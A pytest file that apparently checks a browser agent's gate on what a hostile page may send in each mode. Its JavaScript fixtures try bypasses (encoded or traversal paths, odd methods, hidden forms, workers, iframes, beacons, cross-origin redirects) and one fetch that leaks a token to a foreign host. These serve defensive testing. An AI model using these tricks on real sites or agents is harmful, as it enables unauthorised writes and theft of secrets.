"""What leaves in each mode of the gate: looking changes nothing, a press is one commit, whatever the page tries."""

from __future__ import annotations

from typing import Any

import pytest
from hostile_site import Rogue
from playwright.async_api import Page

from agent.adapters.wall import wall_around
from agent.domain.permit import Kind
from agent.errors import TryLater

SEND = "fetch('/commit', {method: 'POST', body: 'x'}).then((answer) => answer.status, () => 0)"
TWICE = f"Promise.all([{SEND}, {SEND}])"
AS_FORM = (
    "const f = Object.assign(document.createElement('form'), {method: 'post', action: '/commit', target: '_blank'});"
    "document.body.append(f); f.submit()"
)
WRITES = ["/commit", "/login", "/delete", "/read/more", "/READ", "/read/", "//read", "/%72ead", "/commit/../delete"]
SHOTS = [pytest.param(True, id="sent past the browser"), pytest.param(False, id="sent by the browser")]


async def written(rogue: Rogue, visit: Any, page: Page, script: str, *modes: Any) -> Any:
    """Run a script on an own page, in a mode of the gate if one is named."""
    rogue.own.page("/page", "")
    await page.goto(f"{rogue.own.origin}/page")
    for mode in modes:
        async with mode(visit.gate):
            return await page.evaluate(script)
    return await page.evaluate(script)


def press(gate: Any) -> Any:
    return gate.press(Kind.BIND, lambda: True)


def login(gate: Any) -> Any:
    return gate.login()


def person(gate: Any) -> Any:
    return gate.person()


def writes(rogue: Rogue) -> list[str]:
    return [path for method, path, _ in rogue.own.heard if method not in {"GET", "HEAD", "OPTIONS"}]


@pytest.mark.parametrize("path", WRITES)
def test_looking_sends_nothing_that_changes(rogue: Rogue, path: str) -> None:
    script = f"fetch('{rogue.own.origin}{path}', {{method: 'POST', body: 'x'}}).then(() => 1, () => 0)"

    told = rogue.run(lambda visit, page: written(rogue, visit, page, script))

    assert (told, writes(rogue)) == (0, [])


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "POSTER", "get "])
def test_looking_knows_no_other_method(rogue: Rogue, method: str) -> None:
    script = f"fetch('/read', {{method: '{method}'}}).then(() => 1, () => 0)"

    rogue.run(lambda visit, page: written(rogue, visit, page, script))

    assert writes(rogue) == []


def test_looking_may_ask_what_the_profile_calls_a_read(rogue: Rogue) -> None:
    script = "fetch('/read?page=2', {method: 'POST', body: 'x'}).then((answer) => answer.status)"

    assert rogue.run(lambda visit, page: written(rogue, visit, page, script)) == 200
    assert writes(rogue) == ["/read?page=2"]


@pytest.mark.parametrize("single_shot", SHOTS)
def test_a_press_sends_one_commit(rogue: Rogue, *, single_shot: bool) -> None:
    rogue.forget(single_shot=single_shot)

    told = rogue.run(lambda visit, page: written(rogue, visit, page, SEND, press))

    assert (told, writes(rogue)) == (200, ["/commit"])


@pytest.mark.parametrize("single_shot", SHOTS)
def test_of_two_rapid_commits_one_leaves(rogue: Rogue, *, single_shot: bool) -> None:
    rogue.forget(single_shot=single_shot)

    told = rogue.run(lambda visit, page: written(rogue, visit, page, TWICE, press))

    assert sorted(told) == [0, 200]
    assert writes(rogue) == ["/commit"]


@pytest.mark.parametrize("single_shot", SHOTS)
def test_the_commit_carries_the_page_s_body_and_cookies(rogue: Rogue, *, single_shot: bool) -> None:
    rogue.forget(single_shot=single_shot)
    script = "document.cookie = 'crumb=mine'; " + SEND.replace("'x'", "'grüß'")

    rogue.run(lambda visit, page: written(rogue, visit, page, script, press))

    ((_, _, told),) = [one for one in rogue.own.heard if one[0] == "POST"]
    assert told.endswith("grüß".encode())
    assert b"crumb=mine" in told


def test_a_commit_whose_bytes_are_no_text_arrives_whole(rogue: Rogue) -> None:
    rogue.forget(single_shot=True)

    rogue.run(lambda visit, page: written(rogue, visit, page, SEND.replace("'x'", "new Uint8Array([0, 255])"), press))

    ((_, _, told),) = [one for one in rogue.own.heard if one[0] == "POST"]
    assert told.endswith(b"\x00\xff")


def test_a_commit_whose_body_the_browser_keeps_to_itself_is_not_sent(rogue: Rogue) -> None:
    rogue.forget(single_shot=True)
    stream = "new ReadableStream({start: (to) => { to.enqueue(new Uint8Array([120])); to.close() }}), duplex: 'half'"

    told = rogue.run(lambda visit, page: written(rogue, visit, page, SEND.replace("'x'", stream), press))

    assert (told, writes(rogue)) == (0, [])


@pytest.mark.parametrize("single_shot", SHOTS)
@pytest.mark.parametrize("status", [302, 307, 308])
def test_a_redirected_commit_takes_nothing_abroad(rogue: Rogue, status: int, *, single_shot: bool) -> None:
    rogue.forget(single_shot=single_shot)
    rogue.own.redirect("/commit", f"{rogue.foreign.origin}/commit", status)

    told = rogue.run(lambda visit, page: written(rogue, visit, page, SEND, press))

    assert told == 0
    assert (writes(rogue), rogue.foreign.connections) == (["/commit"], 0)


@pytest.mark.parametrize("single_shot", SHOTS)
def test_a_commit_redirected_to_another_write_ends_there(rogue: Rogue, *, single_shot: bool) -> None:
    rogue.forget(single_shot=single_shot)
    rogue.own.redirect("/commit", "/delete", 307)

    rogue.run(lambda visit, page: written(rogue, visit, page, SEND, press))

    assert writes(rogue) == ["/commit"]


@pytest.mark.parametrize("status", [307, 308])
def test_a_read_redirected_to_the_commit_ends_there(rogue: Rogue, status: int) -> None:
    rogue.own.redirect("/read", "/commit", status)
    script = f"fetch('/read', {{method: 'POST', body: 'x'}}).catch(() => 0).then(() => {SEND})"

    told = rogue.run(lambda visit, page: written(rogue, visit, page, script, press))

    assert (told, writes(rogue)) == (200, ["/read", "/commit"])


@pytest.mark.parametrize("way", ["/delete", "/login"])
def test_a_press_sends_nothing_but_its_commit(rogue: Rogue, way: str) -> None:
    rogue.run(lambda visit, page: written(rogue, visit, page, SEND.replace("/commit", way), press))

    assert writes(rogue) == []


@pytest.mark.parametrize(
    "trick",
    [
        pytest.param(AS_FORM, id="a form in a new window"),
        pytest.param(
            f"new Worker(URL.createObjectURL(new Blob([`{SEND.replace('/commit', 'ORIGIN/commit')}`])))", id="a worker"
        ),
        pytest.param(
            "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<script>"
            f"{SEND}</script>`}}))",
            id="a frame",
        ),
        pytest.param("navigator.sendBeacon('/commit', 'x')", id="a beacon beside the commit"),
    ],
)
def test_a_second_commit_by_another_way_is_stopped(rogue: Rogue, trick: str) -> None:
    script = trick.replace("ORIGIN", rogue.own.origin)

    rogue.run(lambda visit, page: written(rogue, visit, page, f"{SEND}.then(() => {{ {script} }})", press))

    assert writes(rogue) == ["/commit"]


def late(gate: Any) -> Any:
    return gate.press(Kind.BIND, lambda: False)


def test_a_commit_that_comes_too_late_is_stopped_and_told(rogue: Rogue) -> None:
    with pytest.raises(TryLater):
        rogue.run(lambda visit, page: written(rogue, visit, page, SEND, late))

    assert writes(rogue) == []


def test_after_the_press_the_gate_is_shut_again(rogue: Rogue) -> None:
    async def both(visit: Any, page: Page) -> Any:
        await written(rogue, visit, page, SEND, press)
        return await page.evaluate(SEND), visit.gate.sent, visit.gate.stopped

    told, sent, stopped = rogue.run(both)

    assert (told, sent) == (0, ("POST /commit",))
    assert stopped == (f"POST {rogue.own.origin}/commit",)


def test_a_login_sends_the_login_and_nothing_else(rogue: Rogue) -> None:
    script = f"Promise.all([{SEND}, {SEND.replace('/commit', '/login')}])"

    told = rogue.run(lambda visit, page: written(rogue, visit, page, script, login))

    assert (told, writes(rogue)) == ([0, 200], ["/login"])


def test_a_person_may_write_inside_and_not_abroad(rogue: Rogue) -> None:
    abroad = f"fetch('{rogue.foreign.origin}/x', {{method: 'POST', mode: 'no-cors'}}).then(() => 1, () => 0)"
    script = f"Promise.all([{SEND.replace('/commit', '/anything')}, {abroad}])"

    told = rogue.run(lambda visit, page: written(rogue, visit, page, script, person))

    assert told == [200, 0]
    assert (writes(rogue), rogue.foreign.connections) == (["/anything"], 0)


def test_a_person_may_write_in_a_frame_such_as_a_challenge_s(rogue: Rogue) -> None:
    rogue.own.page("/challenge", f"<script>{SEND.replace('/commit', '/solve')}.then(() => parent.over = true)</script>")
    script = (
        "new Promise((done) => { document.body.innerHTML = '<iframe src=/challenge></iframe>';"
        "setInterval(() => window.over && done(), 20); setTimeout(done, 2000) })"
    )

    rogue.run(lambda visit, page: written(rogue, visit, page, script, person))

    assert writes(rogue) == ["/solve"]


def test_a_visit_that_ended_rules_over_nothing(rogue: Rogue) -> None:
    async def rulers() -> int:
        async with rogue.visit() as (_, page):
            wall = await wall_around(page.context)
        return len(wall.gates)

    assert rogue.loop.call(rulers) == 0


def test_evidence_shows_no_query_of_what_was_stopped(rogue: Rogue) -> None:
    async def tried(visit: Any, page: Page) -> Any:
        await written(rogue, visit, page, f"fetch('{rogue.foreign.origin}/x?token=SECRET').catch(() => 0)")
        return visit.gate.stopped

    assert rogue.run(tried) == (f"GET {rogue.foreign.origin}/x",)
